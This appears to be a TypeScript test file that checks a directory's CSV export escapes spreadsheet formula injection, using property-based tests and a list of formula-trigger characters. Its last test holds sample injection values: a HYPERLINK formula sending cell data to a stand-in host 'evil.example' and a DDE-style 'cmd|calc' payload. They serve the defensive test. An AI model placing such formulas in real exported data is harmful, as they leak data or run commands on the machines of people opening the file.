/** Whoever opens an exported directory in a spreadsheet sees words: nothing that somebody typed is computed. */
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { formatCsv, parseCsv } from '../csv.ts';
import { exportHsds, hsdsCsv, importHsdsCsv } from './index.ts';

const FORMULAS = ['=', '+', '-', '@', '|', '%', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' =', '\u0000='];

test('no text is a live formula, and each is read back as it was', () => {
  const text = fc
    .tuple(fc.constantFrom('', "'", "''"), fc.constantFrom('', ...FORMULAS), fc.string({ unit: 'grapheme' }))
    .map((parts) => parts.join(''))
    .filter((typed) => typed !== '');
  fc.assert(
    fc.property(fc.array(text, { minLength: 2, maxLength: 5 }), (row) => {
      const written = formatCsv([row]);
      const parsed = parseCsv(written);
      expect(parsed.ok && parsed.lines.map(({ cells }) => cells)).toEqual([row]);
    }),
    { numRuns: 2000, seed: 1 },
  );
  for (const start of FORMULAS) expect(formatCsv([[`${start}1+1`, 'x']])).toMatch(/^"?'/);
});

test('numbers stay numbers', () => {
  expect(formatCsv([[-5, 18, undefined, 'x']])).toBe('-5,18,,x\r\n');
});

test('a provider whose name is a formula is exported as words and comes back with its name', () => {
  const id = `${'p'.repeat(21)}A`;
  const fields = {
    name: '=HYPERLINK("https://evil.example/?"&A1,"open")',
    about: '@SUM(1+1)*cmd|calc!A0',
    frontGate: '+994 50 123-45-67',
  };
  const files = hsdsCsv(exportHsds([{ id, kind: 'provider', dossier: id, deleted: false, fields }]));
  const cells = Object.values(files)
    .join('')
    .split(/\r\n|,/);
  for (const cell of cells) expect(cell).not.toMatch(/^"?[=+@]/);
  expect(importHsdsCsv(files).records[0]?.fields).toMatchObject(fields);
});
